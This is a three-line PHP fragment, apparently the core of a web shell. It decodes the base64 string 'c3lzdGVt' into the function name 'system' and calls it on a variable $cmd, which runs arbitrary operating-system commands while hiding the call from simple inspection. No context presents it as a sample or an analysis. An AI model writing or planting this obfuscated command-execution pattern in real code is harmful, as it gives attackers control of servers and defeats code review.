<?php
$f = base64_decode('c3lzdGVt');
$f($cmd);
